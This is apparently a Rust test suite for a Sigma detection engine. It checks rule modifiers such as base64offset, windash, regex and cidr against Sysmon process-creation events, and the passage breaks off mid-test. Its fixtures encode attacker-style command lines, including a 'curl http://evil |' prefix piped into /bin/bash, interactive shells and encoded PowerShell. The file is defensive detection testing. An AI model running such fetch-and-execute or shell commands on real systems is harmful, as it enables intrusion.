//! Value modifiers and value semantics end to end: rule text in, a Sysmon process creation
//! event (EVTX shape) through the built-in profiles, and both the compiled engine and the
//! reference interpreter must give the expected answer. Followed by the load diagnostics of
//! broken rules (codes and positions).
//!
//! Each table row is `(detection, event, expected)`. A detection given to [`m`] is one search
//! `sel` written as a YAML flow map; [`d`] takes a whole detection. An event is the `EventData`
//! of the Sysmon event, or a whole event tree when it has an `Event` key. The tables are kept
//! one row per line (`rustfmt::skip`).

mod common;

use base64::Engine as _;
use common::{Failures, HEADER_LINES, rule_text, sysmon1};
use leitstelle_event::SourceKind;
use leitstelle_profile::ProfileSet;
use leitstelle_sigma::{Engine, LoadOptions, Placeholders, RuleSet, Scratch, Severity, reference};
use serde_json::{Value, json};

struct Case {
    detection: String,
    data: Value,
    want: bool,
}

/// One search `sel: {<search>}` with `condition: sel`.
fn m(search: &str, data: Value, want: bool) -> Case {
    d(&format!("sel: {{{search}}}\ncondition: sel"), data, want)
}

/// A whole detection.
fn d(detection: &str, data: Value, want: bool) -> Case {
    Case {
        detection: detection.to_string(),
        data,
        want,
    }
}

/// The check helper: builds the rule, loads it (it must load without diagnostics), compiles
/// it, classifies the event and asks both the engine and the reference interpreter.
/// Returns a description of the failure, if any.
fn check(detection: &str, data: &Value, want: bool, opts: &LoadOptions) -> Result<(), String> {
    let text = rule_text(detection);
    let set = RuleSet::load([("rule.yml", text.as_str())], opts);
    if !set.diagnostics.is_empty() || set.rules.len() != 1 {
        return Err(format!(
            "rule did not load:\n{detection}\n{:#?}",
            set.diagnostics
        ));
    }
    let profiles = ProfileSet::builtin();
    let tree = if data.get("Event").is_some() {
        data.clone()
    } else {
        sysmon1(data.clone())
    };
    let event = common::event(SourceKind::Evtx, tree, &profiles);
    let rules = set.rules.clone();
    let engine = Engine::compile(set.rules, &profiles);
    let by_engine = !engine.matches(&event, &mut Scratch::new()).is_empty();
    let by_reference = !reference::matches(&rules, &profiles, &event).is_empty();
    if by_engine != want || by_reference != want {
        return Err(format!(
            "detection:\n{detection}\nevent: {data}\n    expected match={want}, engine {by_engine}, reference {by_reference}"
        ));
    }
    Ok(())
}

fn run_with(opts: &LoadOptions, cases: Vec<Case>) {
    let mut failures = Failures::default();
    for c in &cases {
        if let Err(e) = check(&c.detection, &c.data, c.want, opts) {
            failures.push(e);
        }
    }
    failures.assert_none();
}

fn run(cases: Vec<Case>) {
    run_with(&LoadOptions::default(), cases)
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

#[test]
fn the_event_shape_is_routed_as_process_creation() {
    let profiles = ProfileSet::builtin();
    let e = common::event(SourceKind::Evtx, sysmon1(json!({})), &profiles);
    assert_eq!(e.logsource.to_string(), "windows/sysmon/process_creation");
}

#[test]
#[rustfmt::skip]
fn contains_startswith_endswith() {
    run(vec![
        m(r"CommandLine|contains: 'whoami'", json!({"CommandLine": "cmd /c WHOAMI /all"}), true),
        m(r"CommandLine|contains: 'whoami'", json!({"CommandLine": "cmd /c who ami"}), false),
        m(r"CommandLine|contains: 'whoami'", json!({}), false),
        m(r"Image|startswith: 'C:\Windows\'", json!({"Image": "c:\\windows\\system32\\cmd.exe"}), true),
        m(r"Image|startswith: 'C:\Windows\'", json!({"Image": "D:\\C:\\Windows\\x.exe"}), false),
        m(r"Image|endswith: '\cmd.exe'", json!({"Image": "C:\\Windows\\System32\\CMD.EXE"}), true),
        m(r"Image|endswith: '\cmd.exe'", json!({"Image": "C:\\cmd.exe.bak"}), false),
        // Without a modifier the whole value must match.
        m(r"Image: 'cmd.exe'", json!({"Image": "C:\\cmd.exe"}), false),
        m(r"Image: 'cmd.exe'", json!({"Image": "CMD.exe"}), true),
        // `contains` of the empty string: any value, but not a missing field.
        m(r"CommandLine|contains: ''", json!({"CommandLine": "x"}), true),
        m(r"CommandLine|contains: ''", json!({}), false),
        // Numbers in the event are matched as their text.
        m(r"ProcessId|contains: '23'", json!({"ProcessId": 1234}), true),
        m(r"ProcessId|startswith: 12", json!({"ProcessId": 1234}), true),
        m(r"ProcessId|endswith: 12", json!({"ProcessId": 1234}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn all_links_values_with_and() {
    run(vec![
        m(r"CommandLine|contains|all: ['-enc', 'hidden']", json!({"CommandLine": "powershell -w HIDDEN -enc AAA"}), true),
        m(r"CommandLine|contains|all: ['-enc', 'hidden']", json!({"CommandLine": "powershell -enc AAA"}), false),
        m(r"CommandLine|contains|all: ['-enc', 'hidden']", json!({"CommandLine": "powershell -w hidden"}), false),
        // Without `all` one value is enough.
        m(r"CommandLine|contains: ['-enc', 'hidden']", json!({"CommandLine": "powershell -enc AAA"}), true),
        m(r"CommandLine|all|contains: ['a', 'b', 'c']", json!({"CommandLine": "cba"}), true),
        m(r"CommandLine|all|contains: ['a', 'b', 'c']", json!({"CommandLine": "ba"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn base64_encodes_the_value() {
    run(vec![
        m(r"CommandLine|base64: 'ping'", json!({"CommandLine": "cGluZw=="}), true),
        m(r"CommandLine|base64: 'ping'", json!({"CommandLine": "ping"}), false),
        m(r"CommandLine|base64: 'ping'", json!({"CommandLine": "x cGluZw=="}), false),
        m(r"CommandLine|base64|contains: 'ping'", json!({"CommandLine": "x cGluZw== y"}), true),
        m(r"CommandLine|base64|contains: 'ping'", json!({"CommandLine": "x cGlu y"}), false),
    ]);
}

#[test]
fn base64offset_finds_the_value_at_every_alignment() {
    let rule = r"CommandLine|base64offset|contains: '/bin/bash'";
    let mut cases = Vec::new();
    for prefix in ["", "x", "xy", "xyz", "curl http://evil | "] {
        for suffix in ["", " -i", "!!"] {
            let inner = format!("{prefix}/bin/bash{suffix}");
            let line = format!("sh -c 'echo {} | base64 -d'", b64(inner.as_bytes()));
            cases.push(m(rule, json!({ "CommandLine": line }), true));
        }
        let other = format!("{prefix}/bin/sh -i");
        let line = format!("echo {}", b64(other.as_bytes()));
        cases.push(m(rule, json!({ "CommandLine": line }), false));
    }
    run(cases);
}

#[test]
#[rustfmt::skip]
fn utf16_encodings_with_base64() {
    let mut cases = Vec::new();
    // PowerShell -EncodedCommand: base64 of UTF-16LE text; prefixes of 0..3 characters shift
    // the value by 0, 2, 4 and 6 bytes (every alignment modulo 3).
    for prefix in ["", "a", "ab", "abc", "Write-Host x; "] {
        let le = utf16le(&format!("{prefix}ping 10.0.0.1"));
        let event = json!({"CommandLine": format!("powershell -enc {}", b64(&le))});
        cases.push(m(r"CommandLine|wide|base64offset|contains: 'ping'", event.clone(), true));
        cases.push(m(r"CommandLine|utf16le|base64offset|contains: 'ping'", event, true));
        let be = utf16be(&format!("{prefix}ping 10.0.0.1"));
        let event = json!({"CommandLine": format!("x {}", b64(&be))});
        cases.push(m(r"CommandLine|utf16be|base64offset|contains: 'ping'", event, true));
    }
    // The UTF-8 encoding of the value is not its UTF-16 encoding.
    cases.push(m(r"CommandLine|wide|base64offset|contains: 'ping'", json!({"CommandLine": b64(b"ping 10.0.0.1")}), false));
    cases.push(m(r"CommandLine|utf16be|base64offset|contains: 'ping'", json!({"CommandLine": b64(b"ping 10.0.0.1")}), false));
    // Whole values.
    cases.push(m(r"CommandLine|utf16le|base64: 'cmd'", json!({"CommandLine": "YwBtAGQA"}), true));
    cases.push(m(r"CommandLine|wide|base64: 'cmd'", json!({"CommandLine": "YwBtAGQA"}), true));
    cases.push(m(r"CommandLine|utf16be|base64: 'cmd'", json!({"CommandLine": "AGMAbQBk"}), true));
    cases.push(m(r"CommandLine|utf16be|base64: 'cmd'", json!({"CommandLine": "YwBtAGQA"}), false));
    // `utf16` puts a byte order mark (FF FE) before the UTF-16LE text.
    cases.push(m(r"CommandLine|utf16|base64: 'cmd'", json!({"CommandLine": "//5jAG0AZAA="}), true));
    cases.push(m(r"CommandLine|utf16|base64: 'cmd'", json!({"CommandLine": "YwBtAGQA"}), false));
    for prefix in [&b""[..], b"x", b"xy"] {
        let mut bytes = prefix.to_vec();
        bytes.extend_from_slice(&[0xFF, 0xFE]);
        bytes.extend(utf16le("cmd /c"));
        cases.push(m(r"CommandLine|utf16|base64offset|contains: 'cmd'", json!({"CommandLine": b64(&bytes)}), true));
    }
    run(cases);
}

#[test]
#[rustfmt::skip]
fn windash_accepts_all_five_dashes() {
    let mut cases = Vec::new();
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        let event = json!({"CommandLine": format!("powershell {dash}enc AAA")});
        cases.push(m(r"CommandLine|windash|contains: ' -enc '", event.clone(), true));
        // The rule may be written with any of them.
        cases.push(m(r"CommandLine|windash|contains: ' /enc '", event.clone(), true));
        cases.push(m("CommandLine|windash|contains: ' \u{2013}enc '", event.clone(), true));
        // Without `windash` only the written character matches.
        cases.push(m(r"CommandLine|contains: ' -enc '", event, dash == "-"));
    }
    cases.extend([
        m(r"CommandLine|windash|contains: ' -enc '", json!({"CommandLine": "powershell enc AAA"}), false),
        m(r"CommandLine|windash|contains: ' -enc '", json!({"CommandLine": "powershell +enc AAA"}), false),
        m(r"CommandLine|windash|contains: ['-c ', '-k ']", json!({"CommandLine": "cmd /k whoami"}), true),
        m(r"CommandLine|windash|contains|all: [' -a', ' -b']", json!({"CommandLine": "x /a \u{2014}b"}), true),
        m(r"CommandLine|windash|contains|all: [' -a', ' -b']", json!({"CommandLine": "x /a"}), false),
        // A dash inside a word is not a flag.
        m(r"CommandLine|windash|contains: 'a-b'", json!({"CommandLine": "xa/bx"}), false),
        m(r"CommandLine|windash|contains: 'a-b'", json!({"CommandLine": "xa-bx"}), true),
    ]);
    run(cases);
}

#[test]
#[rustfmt::skip]
fn regular_expressions_and_their_flags() {
    run(vec![
        // Case-sensitive by default, unanchored.
        m(r"CommandLine|re: 'who.mi'", json!({"CommandLine": "whoami"}), true),
        m(r"CommandLine|re: 'who.mi'", json!({"CommandLine": "WHOAMI"}), false),
        m(r"CommandLine|re: 'oam'", json!({"CommandLine": "x whoami /all"}), true),
        m(r"CommandLine|re: '^whoami$'", json!({"CommandLine": "x whoami"}), false),
        m(r"CommandLine|re: '^\d{3}$'", json!({"CommandLine": "123"}), true),
        m(r"CommandLine|re: '^\d{3}$'", json!({"CommandLine": "1234"}), false),
        // i: case-insensitive.
        m(r"CommandLine|re|i: 'who.mi'", json!({"CommandLine": "WHOAMI"}), true),
        m(r"CommandLine|re|i: 'Ä+'", json!({"CommandLine": "xääx"}), true),
        // m: ^ and $ at line breaks.
        m(r"CommandLine|re: '^b'", json!({"CommandLine": "a\nb"}), false),
        m(r"CommandLine|re|m: '^b'", json!({"CommandLine": "a\nb"}), true),
        m(r"CommandLine|re|m: 'a$'", json!({"CommandLine": "a\nb"}), true),
        // s: the dot matches a line break.
        m(r"CommandLine|re: 'a.b'", json!({"CommandLine": "a\nb"}), false),
        m(r"CommandLine|re|s: 'a.b'", json!({"CommandLine": "a\nb"}), true),
        // Flags combine.
        m(r"CommandLine|re|i|m: '^B$'", json!({"CommandLine": "a\nb\nc"}), true),
        m(r"CommandLine|re|m: '^B$'", json!({"CommandLine": "a\nb\nc"}), false),
        // Regexes see the text of numbers; `cased` changes nothing.
        m(r"ProcessId|re: '^12'", json!({"ProcessId": 1234}), true),
        m(r"CommandLine|re|cased: 'A'", json!({"CommandLine": "a"}), false),
        // Lists of regexes are OR-linked.
        m(r"CommandLine|re: ['^x', 'y$']", json!({"CommandLine": "ay"}), true),
        m(r"CommandLine|re: ['^x', 'y$']", json!({"CommandLine": "ya"}), false),
        m(r"CommandLine|re: 'a'", json!({}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn cidr_networks_and_addresses() {
    run(vec![
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({"DestinationIp": "10.1.2.3"}), true),
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({"DestinationIp": "11.1.2.3"}), false),
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({"DestinationIp": "not an address"}), false),
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({"DestinationIp": "2001:db8::1"}), false),
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({}), false),
        m(r"DestinationIp|cidr: ['192.168.0.0/16', '172.16.0.0/12']", json!({"DestinationIp": "172.20.0.1"}), true),
        m(r"DestinationIp|cidr: ['192.168.0.0/16', '172.16.0.0/12']", json!({"DestinationIp": "172.32.0.1"}), false),
        m(r"DestinationIp|cidr: '2001:db8::/32'", json!({"DestinationIp": "2001:DB8::1"}), true),
        m(r"DestinationIp|cidr: '2001:db8::/32'", json!({"DestinationIp": "2001:db9::1"}), false),
        m(r"DestinationIp|cidr: '2001:db8::/32'", json!({"DestinationIp": "10.1.2.3"}), false),
        // A bare address is a network of one.
        m(r"DestinationIp|cidr: '192.168.1.5'", json!({"DestinationIp": "192.168.1.5"}), true),
        m(r"DestinationIp|cidr: '192.168.1.5'", json!({"DestinationIp": "192.168.1.6"}), false),
        m(r"DestinationIp|cidr: '::1'", json!({"DestinationIp": "::1"}), true),
        m(r"DestinationIp|cidr: '::1'", json!({"DestinationIp": "::2"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn numeric_comparisons() {
    run(vec![
        m(r"Count|gt: 5", json!({"Count": 6}), true),
        m(r"Count|gt: 5", json!({"Count": "6"}), true),
        m(r"Count|gt: 5", json!({"Count": 5}), false),
        m(r"Count|gt: 5", json!({"Count": "5"}), false),
        m(r"Count|gt: 5", json!({"Count": 5.5}), true),
        m(r"Count|gt: 5", json!({"Count": " 7 "}), true),
        m(r"Count|gt: 5", json!({"Count": "0x10"}), true),
        m(r"Count|gt: 5", json!({"Count": "many"}), false),
        m(r"Count|gt: 5", json!({"Count": null}), false),
        m(r"Count|gt: 5", json!({}), false),
        m(r"Count|gte: 5", json!({"Count": 5}), true),
        m(r"Count|gte: 5", json!({"Count": 4}), false),
        // The rule's number may be written as a string.
        m(r"Count|lt: '10'", json!({"Count": 9}), true),
        m(r"Count|lt: '10'", json!({"Count": "9"}), true),
        m(r"Count|lt: '10'", json!({"Count": 10}), false),
        m(r"Count|lte: 10", json!({"Count": 10}), true),
        m(r"Count|lte: 10", json!({"Count": 11}), false),
        m(r"Count|lt: 0", json!({"Count": -1}), true),
        m(r"Count|lt: 1.5", json!({"Count": 1}), true),
        // A range is two items.
        m(r"Count|gt: 1, Count|lt: 10", json!({"Count": 5}), true),
        m(r"Count|gt: 1, Count|lt: 10", json!({"Count": 10}), false),
        // Lists in the event: any element.
        m(r"Count|gt: 5", json!({"Count": [1, 10]}), true),
        m(r"Count|gt: 5", json!({"Count": [1, 2]}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn exists_checks_presence_only() {
    run(vec![
        m(r"User|exists: true", json!({"User": "x"}), true),
        m(r"User|exists: true", json!({"User": ""}), true),
        // "this check only verifies the presence of a field, not its value, be it empty or null"
        m(r"User|exists: true", json!({"User": null}), true),
        m(r"User|exists: true", json!({}), false),
        m(r"User|exists: false", json!({}), true),
        m(r"User|exists: false", json!({"User": "x"}), false),
        m(r"User|exists: false", json!({"User": null}), false),
        m(r"User|exists: false", json!({"User": ""}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn cased_matches_case_sensitively() {
    run(vec![
        m(r"Image|cased|endswith: '\Whoami.exe'", json!({"Image": "C:\\Whoami.exe"}), true),
        m(r"Image|cased|endswith: '\Whoami.exe'", json!({"Image": "C:\\whoami.exe"}), false),
        m(r"Image|endswith|cased: '\Whoami.exe'", json!({"Image": "C:\\WHOAMI.exe"}), false),
        m(r"User|cased: 'Admin'", json!({"User": "Admin"}), true),
        m(r"User|cased: 'Admin'", json!({"User": "admin"}), false),
        m(r"User|cased: 'A*n'", json!({"User": "Admin"}), true),
        m(r"User|cased: 'A*n'", json!({"User": "admin"}), false),
        m(r"CommandLine|cased|contains: 'ÄÖ'", json!({"CommandLine": "xÄÖx"}), true),
        m(r"CommandLine|cased|contains: 'ÄÖ'", json!({"CommandLine": "xäöx"}), false),
        m(r"CommandLine|cased|startswith: 'ab'", json!({"CommandLine": "abc"}), true),
        m(r"CommandLine|cased|startswith: 'ab'", json!({"CommandLine": "Abc"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn fieldref_compares_two_fields() {
    run(vec![
        m(r"ParentImage|fieldref: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\a.exe"}), true),
        // Case-insensitive like every string comparison.
        m(r"ParentImage|fieldref: Image", json!({"ParentImage": "C:\\a.exe", "Image": "c:\\A.EXE"}), true),
        m(r"ParentImage|fieldref: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\b.exe"}), false),
        m(r"ParentImage|fieldref: Image", json!({"ParentImage": "C:\\a.exe"}), false),
        m(r"ParentImage|fieldref: Image", json!({"Image": "C:\\a.exe"}), false),
        m(r"User|fieldref|cased: TargetUser", json!({"User": "Admin", "TargetUser": "admin"}), false),
        m(r"User|fieldref|cased: TargetUser", json!({"User": "Admin", "TargetUser": "Admin"}), true),
        m(r"CommandLine|fieldref|contains: Image", json!({"CommandLine": "\"C:\\a.exe\" -x", "Image": "C:\\A.exe"}), true),
        m(r"CommandLine|fieldref|contains: Image", json!({"CommandLine": "\"C:\\a.exe\" -x", "Image": "C:\\b.exe"}), false),
        m(r"CommandLine|fieldref|startswith: Image", json!({"CommandLine": "C:\\a.exe -x", "Image": "C:\\a.exe"}), true),
        m(r"CommandLine|fieldref|startswith: Image", json!({"CommandLine": "x C:\\a.exe", "Image": "C:\\a.exe"}), false),
        m(r"CommandLine|fieldref|endswith: Image", json!({"CommandLine": "x C:\\a.exe", "Image": "C:\\a.exe"}), true),
        m(r"CommandLine|fieldref|endswith: Image", json!({"CommandLine": "C:\\a.exe x", "Image": "C:\\a.exe"}), false),
        // Field references also reach System fields through the profile.
        m(r"User|fieldref: Computer", json!({"User": "HOST1"}), true),
        // `neq` where the referenced field is also read elsewhere in the rule.
        m(r"Image|endswith: '.exe', ParentImage|fieldref|neq: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\a.exe"}), false),
        m(r"Image|endswith: '.exe', ParentImage|fieldref|neq: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\b.exe"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn fieldref_with_neq_reads_the_referenced_field() {
    // The referenced field (`Image`) is read by nothing else in the rule.
    run(vec![
        m(r"ParentImage|fieldref|neq: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\a.exe"}), false),
        m(r"ParentImage|fieldref|neq: Image", json!({"ParentImage": "C:\\a.exe", "Image": "C:\\b.exe"}), true),
        m(r"CommandLine|fieldref|contains|neq: Image", json!({"CommandLine": "C:\\a.exe -x", "Image": "C:\\a.exe"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn expand_replaces_placeholders() {
    let mut placeholders = Placeholders::new();
    placeholders.insert("Admins".into(), vec!["root".into(), "adm_*".into()]);
    placeholders.insert("Hosts".into(), vec!["ws1".into(), "ws2".into()]);
    let opts = LoadOptions { placeholders, ..LoadOptions::default() };
    run_with(&opts, vec![
        m(r"User|expand: '%Admins%'", json!({"User": "root"}), true),
        m(r"User|expand: '%Admins%'", json!({"User": "ADM_jane"}), true),
        m(r"User|expand: '%Admins%'", json!({"User": "bob"}), false),
        m(r"User|expand: '%Admins%'", json!({"User": "%Admins%"}), false),
        // Without `expand` a placeholder is literal text.
        m(r"User: '%Admins%'", json!({"User": "%admins%"}), true),
        m(r"User: '%Admins%'", json!({"User": "root"}), false),
        m(r"CommandLine|expand|contains: '%Hosts%\c$'", json!({"CommandLine": "net use \\\\WS2\\c$"}), true),
        m(r"CommandLine|expand|contains: '%Hosts%\c$'", json!({"CommandLine": "net use \\\\ws3\\c$"}), false),
        // `\%` is a plain percent sign.
        m(r"CommandLine|expand: '\%plain%Hosts%'", json!({"CommandLine": "%plainws1"}), true),
        m(r"CommandLine|expand: '\%plain%Hosts%'", json!({"CommandLine": "%plain%Hosts%"}), false),
        // Two placeholders: every combination.
        m(r"CommandLine|expand: '%Hosts%:%Hosts%'", json!({"CommandLine": "ws2:ws1"}), true),
        m(r"CommandLine|expand: ['%Hosts%', 'other']", json!({"CommandLine": "other"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn neq_excludes_the_value() {
    run(vec![
        m(r"User|neq: 'admin'", json!({"User": "bob"}), true),
        m(r"User|neq: 'admin'", json!({"User": "ADMIN"}), false),
        m(r"User|neq|contains: 'adm'", json!({"User": "x_adm_x"}), false),
        m(r"User|neq|contains: 'adm'", json!({"User": "bob"}), true),
        m(r"Count|neq: 5", json!({"Count": 5}), false),
        m(r"Count|neq: 5", json!({"Count": "5"}), false),
        m(r"Count|neq: 5", json!({"Count": 6}), true),
        // Every variant of a value is excluded.
        m(r"CommandLine|windash|contains|neq: ' -x'", json!({"CommandLine": "a /x"}), false),
        m(r"CommandLine|windash|contains|neq: ' -x'", json!({"CommandLine": "a"}), true),
        // An array in the event: no element may equal the value.
        m(r"User|neq: 'a'", json!({"User": ["a", "b"]}), false),
        m(r"User|neq: 'a'", json!({"User": ["b", "c"]}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn neq_with_a_list_means_none_of_the_values() {
    // Spec: "neq: The field is different from the specified values"; pySigma implements it as
    // the negation of the whole detection item: `not (User = admin or User = root)`.
    run(vec![
        m(r"User|neq: ['admin', 'root']", json!({"User": "bob"}), true),
        m(r"User|neq: ['admin', 'root']", json!({"User": "root"}), false),
        m(r"User|neq: ['admin', 'root']", json!({"User": "admin"}), false),
        m(r"Count|neq: [1, 2]", json!({"Count": 2}), false),
        m(r"Image|endswith: '\cmd.exe', User|neq: ['admin', 'root']", json!({"Image": "C:\\cmd.exe", "User": "root"}), false),
        // With `all`: not all of them, `not (User = a and User = b)`.
        m(r"User|neq|all: ['a', 'b']", json!({"User": "a"}), true),
        m(r"User|neq|all: ['a', 'b']", json!({"User": ["a", "b"]}), false),
        m(r"User|neq|all: ['a', 'b']", json!({"User": ["a", "c"]}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn case_folding_does_not_depend_on_the_neighbouring_letters() {
    // Lowercasing a whole string is context-sensitive (a capital sigma at the end of a word
    // becomes a final sigma) and can change the number of characters (capital I with dot
    // above becomes two); the same text must still match itself, and `?` is one character.
    run(vec![
        m(r"User|endswith: 'Σ'", json!({"User": "ΟΔΟΣ"}), true),
        m(r"User|contains: 'ΟΣ'", json!({"User": "ΟΣΑ"}), true),
        m(r"User: 'ΟΔΟΣ'", json!({"User": "ΟΔΟΣ"}), true),
        m(r"User: '?'", json!({"User": "İ"}), true),
        m(r"User: 'a?b'", json!({"User": "aİb"}), true),
        m(r"User: 'İ'", json!({"User": "İ"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn time_parts() {
    let t = json!({"UtcTime": "2024-03-05 14:07:09.123"});
    run(vec![
        m(r"UtcTime|minute: 7", t.clone(), true),
        m(r"UtcTime|minute: 8", t.clone(), false),
        m(r"UtcTime|hour: 14", t.clone(), true),
        m(r"UtcTime|hour: 2", t.clone(), false),
        m(r"UtcTime|day: 5", t.clone(), true),
        m(r"UtcTime|day: 3", t.clone(), false),
        // 2024-03-05 is in ISO week 10.
        m(r"UtcTime|week: 10", t.clone(), true),
        m(r"UtcTime|week: 9", t.clone(), false),
        m(r"UtcTime|month: 3", t.clone(), true),
        m(r"UtcTime|month: 5", t.clone(), false),
        m(r"UtcTime|year: 2024", t.clone(), true),
        m(r"UtcTime|year: 2023", t.clone(), false),
        m(r"UtcTime|hour: '14'", t.clone(), true),
        m(r"UtcTime|hour: [13, 14]", t.clone(), true),
        m(r"UtcTime|hour: [13, 15]", t.clone(), false),
        m(r"UtcTime|hour|gte: 12", t.clone(), true),
        m(r"UtcTime|hour|lt: 12", t.clone(), false),
        m(r"UtcTime|hour: 14", json!({"UtcTime": "2024-03-05T14:07:09Z"}), true),
        m(r"UtcTime|hour: 14", json!({"UtcTime": "2024-03-05T14:07:09.1234567Z"}), true),
        m(r"UtcTime|hour: 14", json!({"UtcTime": "yesterday at two"}), false),
        m(r"UtcTime|hour: 14", json!({}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn wildcards() {
    run(vec![
        // `\\*`: a backslash, then the wildcard.
        m(r"Image: 'C:\Windows\\*\cmd.exe'", json!({"Image": "C:\\Windows\\System32\\cmd.exe"}), true),
        m(r"Image: 'C:\Windows\\*\cmd.exe'", json!({"Image": "C:\\Windows\\cmd.exe"}), false),
        // A single backslash before `*` escapes it: this is a plain star.
        m(r"Image: 'C:\Windows\*\cmd.exe'", json!({"Image": "C:\\Windows\\System32\\cmd.exe"}), false),
        m(r"Image: 'C:\Windows\*\cmd.exe'", json!({"Image": "C:\\Windows*\\cmd.exe"}), true),
        m(r"Image: 'prog?.exe'", json!({"Image": "progA.exe"}), true),
        m(r"Image: 'prog?.exe'", json!({"Image": "prog.exe"}), false),
        m(r"Image: 'prog?.exe'", json!({"Image": "progAB.exe"}), false),
        m(r"User: '?b'", json!({"User": "äb"}), true),
        m(r"CommandLine: '*a*b*c*'", json!({"CommandLine": "xAxbxcx"}), true),
        m(r"CommandLine: '*a*b*c*'", json!({"CommandLine": "xcxbxa"}), false),
        m(r"CommandLine: 'a*'", json!({"CommandLine": "A"}), true),
        m(r"CommandLine: '*'", json!({"CommandLine": "anything"}), true),
        m(r"CommandLine: '*'", json!({"CommandLine": ""}), true),
        m(r"CommandLine: '*'", json!({}), false),
        m(r"CommandLine: '*'", json!({"CommandLine": null}), false),
        m(r"CommandLine|contains: 'a?c'", json!({"CommandLine": "xxabcxx"}), true),
        m(r"CommandLine|contains: 'a?c'", json!({"CommandLine": "xxacxx"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn escapes_and_backslashes() {
    run(vec![
        // `\*` and `\?` are the plain characters.
        m(r"CommandLine: 'a\*b'", json!({"CommandLine": "a*b"}), true),
        m(r"CommandLine: 'a\*b'", json!({"CommandLine": "axb"}), false),
        m(r"CommandLine: 'a\?b'", json!({"CommandLine": "a?b"}), true),
        m(r"CommandLine: 'a\?b'", json!({"CommandLine": "axb"}), false),
        m(r"CommandLine|contains: '\*'", json!({"CommandLine": "x*y"}), true),
        m(r"CommandLine|contains: '\*'", json!({"CommandLine": "xy"}), false),
        // A plain backslash: single or double.
        m(r"Image: 'C:\Windows\cmd.exe'", json!({"Image": "C:\\Windows\\cmd.exe"}), true),
        m(r"Image: 'C:\\Windows\\cmd.exe'", json!({"Image": "C:\\Windows\\cmd.exe"}), true),
        m(r"Image|endswith: '\cmd.exe'", json!({"Image": "C:\\x\\cmd.exe"}), true),
        m(r"Image|endswith: '\cmd.exe'", json!({"Image": "C:/x/cmd.exe"}), false),
        m(r"Image: 'C:\Temp\'", json!({"Image": "C:\\Temp\\"}), true),
        // `\\*`: a backslash, then the wildcard.
        m(r"Image: 'C:\Temp\\*'", json!({"Image": "C:\\Temp\\evil.exe"}), true),
        m(r"Image: 'C:\Temp\\*'", json!({"Image": "C:\\Temp"}), false),
        // `\\\*`: a backslash and a plain star.
        m(r"CommandLine: 'a\\\*b'", json!({"CommandLine": "a\\*b"}), true),
        m(r"CommandLine: 'a\\\*b'", json!({"CommandLine": "a\\xb"}), false),
        // Three or four backslashes: two plain ones.
        m(r"CommandLine: 'a\\\\b'", json!({"CommandLine": "a\\\\b"}), true),
        m(r"CommandLine: 'a\\\\b'", json!({"CommandLine": "a\\b"}), false),
        m(r"CommandLine: 'a\\\b'", json!({"CommandLine": "a\\\\b"}), true),
        // UNC paths: `\\` is one backslash, so this is `\server\share`.
        m(r"CommandLine|contains: '\\server\share'", json!({"CommandLine": "net use \\\\server\\share"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn matching_is_case_insensitive_by_default() {
    run(vec![
        m(r"User: 'ADMIN'", json!({"User": "admin"}), true),
        m(r"User: 'admin'", json!({"User": "AdMiN"}), true),
        m(r"User: 'ÄÖÜ'", json!({"User": "äöü"}), true),
        m(r"User: 'äöü'", json!({"User": "ÄÖÜ"}), true),
        m(r"User|contains: 'ÄÖÜ'", json!({"User": "xäöüx"}), true),
        m(r"User|contains: 'äöü'", json!({"User": "XÄÖÜX"}), true),
        m(r"User|endswith: 'ÖÜ'", json!({"User": "Xäöü"}), true),
        m(r"User|startswith: 'ä'", json!({"User": "Äb"}), true),
        m(r"User|startswith: 'ä'", json!({"User": "bÄ"}), false),
        m(r"User: 'Ä*Ü'", json!({"User": "äxü"}), true),
        // An ASCII needle in non-ASCII text.
        m(r"User|contains: 'admin'", json!({"User": "Ä-ADMIN"}), true),
        m(r"User: 'admin'", json!({"User": "ädmin"}), false),
        m(r"User|endswith: 'Straße'", json!({"User": "x STRAßE"}), true),
        m(r"User: 'Ω'", json!({"User": "ω"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn null_and_empty_values() {
    let not_null = "sel: {Image|endswith: 'x.exe'}\nfilter: {User: null}\ncondition: sel and not filter";
    run(vec![
        m(r"User: null", json!({}), true),
        m(r"User: null", json!({"User": null}), true),
        m(r"User: null", json!({"User": ""}), false),
        m(r"User: null", json!({"User": "x"}), false),
        m(r"User: ~", json!({}), true),
        // Quoted, it is the text "null".
        m(r"User: 'null'", json!({"User": "NULL"}), true),
        m(r"User: 'null'", json!({}), false),
        d(not_null, json!({"Image": "x.exe"}), false),
        d(not_null, json!({"Image": "x.exe", "User": null}), false),
        d(not_null, json!({"Image": "x.exe", "User": "bob"}), true),
        // The empty string is a value, not a missing one.
        m(r"User: ''", json!({"User": ""}), true),
